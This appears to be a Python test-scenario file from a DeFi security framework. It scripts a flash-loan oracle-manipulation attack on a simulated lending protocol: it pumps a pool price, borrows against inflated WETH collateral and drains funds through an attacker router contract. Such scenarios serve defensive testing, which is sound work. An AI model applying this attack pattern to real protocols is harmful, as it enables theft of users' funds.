"""Flash-borrow USD, pump WETH's pool price, borrow against inflated collateral, unwind, repay."""

from __future__ import annotations

from bulwark.domain import TxHash
from bulwark.scenarios.attack import ScenarioContext, World
from bulwark.scenarios.deploy import fund

TREASURY_FLASH_DEPOSIT = 3_000_000 * 10**18
COLLATERAL = 100 * 10**18


async def setup(ctx: ScenarioContext) -> World:
    """Governance's keeper moves WETH to on-chain pricing; the treasury parks idle USD in the flash pool."""
    p = ctx.protocol
    oracle, flash = p.component("oracle"), p.component("flash")
    await ctx.transact(
        p.feeder, oracle.proxy, oracle.abi, "setPriceSource", p.address("weth"), p.address("pool")
    )
    await fund(ctx.client, p, p.deployer.address, usd=TREASURY_FLASH_DEPOSIT)
    usd = p.token("usd")
    await ctx.transact(p.deployer, usd.address, usd.abi, "approve", flash.proxy, TREASURY_FLASH_DEPOSIT)
    await ctx.transact(p.deployer, flash.proxy, flash.abi, "deposit", usd.address, TREASURY_FLASH_DEPOSIT)
    return World(protocol=p)


async def attack(ctx: ScenarioContext) -> list[TxHash]:
    me = ctx.attacker
    router, deployed = await ctx.deploy(me, ctx.scenario.attacker)
    funded = await ctx.send(me, ctx.address("weth"), ctx.abi("weth"), "transfer", router, COLLATERAL)
    amount = int(await ctx.read("flash", "maxFlashLoan", ctx.address("usd")))
    abi = ctx.artifact(ctx.scenario.attacker).abi
    drained = await ctx.send(
        me,
        router,
        abi,
        "run",
        ctx.address("flash"),
        ctx.address("pool"),
        ctx.address("lending"),
        amount,
        COLLATERAL,
    )
    return [deployed, funded, drained]
